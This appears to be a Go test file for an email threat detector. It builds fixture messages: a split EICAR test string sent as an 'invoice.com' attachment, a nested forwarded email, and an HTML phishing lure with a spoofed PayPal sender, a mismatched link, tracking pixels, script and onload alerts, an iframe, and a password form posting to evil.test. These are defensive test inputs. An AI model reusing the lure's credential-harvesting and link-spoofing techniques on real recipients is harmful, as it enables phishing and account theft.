package app_test

import (
	"encoding/base64"
	"strings"
	"testing"

	"tocsin/internal/detect"
)

type signal = detect.Signal

// eicar is the harmless file that every malware engine calls malware (eicar.org), in two parts so that none minds this one.
const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-` + `STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

// lureHTML does what mail must not do to whoever looks at it.
const lureHTML = `<html><head><style>body{background:url(https://track.evil.test/bg.png)}</style><script>alert("script ran")</script></head>
<body onload="alert('handler ran')"><p>Dear customer, your account will be suspended. <a href="https://login.evil.test/keep?u=bob">https://www.paypal.com/signin</a></p>
<img src="https://track.evil.test/pixel.gif" width="1" height="1"><iframe src="https://evil.test/frame"></iframe>
<form action="https://evil.test/post"><input name="password" type="password"></form><a href="javascript:alert(1)">more</a></body></html>`

// lure is a message with all of that, a file that is called malware, and a letter that holds another file.
func lure(t testing.TB) []byte {
	t.Helper()
	return letter(
		`From: "PayPal" <support@paypal.test>`, "To: bob@harbour.test", "Subject: =?utf-8?Q?Your_parcel_=C3=BCnd_<b>more</b>?=", "Message-ID: <lure@paypal.test>", "Date: Fri, 2 Jan 2026 03:04:05 +0000",
		"MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=outer", "",
		"--outer", "Content-Type: text/html; charset=utf-8", "", lureHTML,
		"--outer", "Content-Type: application/octet-stream", "Content-Disposition: attachment; filename=invoice.com", "Content-Transfer-Encoding: base64", "", base64.StdEncoding.EncodeToString([]byte(eicar)),
		"--outer", "Content-Type: message/rfc822", "Content-Disposition: attachment; filename=forwarded.eml", "",
		"From: someone@else.test", "Subject: forwarded", "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=inner", "",
		"--inner", "Content-Type: text/plain", "", "hello",
		"--inner", "Content-Type: text/plain; name=inner.txt", "Content-Disposition: attachment; filename=inner.txt", "", "inside the forwarded letter",
		"--inner--", "--outer--",
	)
}

// page is a message without any file, which its recipient gets.
func page(subject string) []byte {
	return letter("From: Ann <ann@sender.test>", "To: bob@harbour.test", "Subject: "+subject, "Message-ID: <"+strings.ReplaceAll(subject, " ", ".")+"@sender.test>", "Date: Fri, 2 Jan 2026 03:04:05 +0000",
		"MIME-Version: 1.0", "Content-Type: text/html; charset=utf-8", "", lureHTML)
}
